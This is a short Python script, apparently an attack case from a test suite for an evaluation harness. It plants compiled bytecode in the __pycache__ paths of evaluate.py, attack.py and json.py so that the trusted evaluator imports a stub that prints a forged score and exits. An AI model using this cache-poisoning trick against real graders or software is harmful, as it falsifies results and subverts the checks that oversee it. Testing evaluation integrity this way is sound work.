"""Plants bytecode of a protected module, which the trusted evaluation would import in its place."""

import importlib.util
import os
import py_compile

from attack import HOST, OUTPUT, attempt

open(OUTPUT + "/evil.py", "w").write("print('{\"value\": 0}')\nraise SystemExit")
for tree in (HOST["base_tree"], os.getcwd()):
    for module in ("evaluate.py", "attack.py", "json.py"):
        place = importlib.util.cache_from_source(f"{tree}/{module}")
        attempt(
            lambda: os.makedirs(os.path.dirname(place), exist_ok=True) if not os.path.isdir(tree) else None,
            lambda: py_compile.compile(OUTPUT + "/evil.py", place) if os.path.isdir(tree) else None,
        )
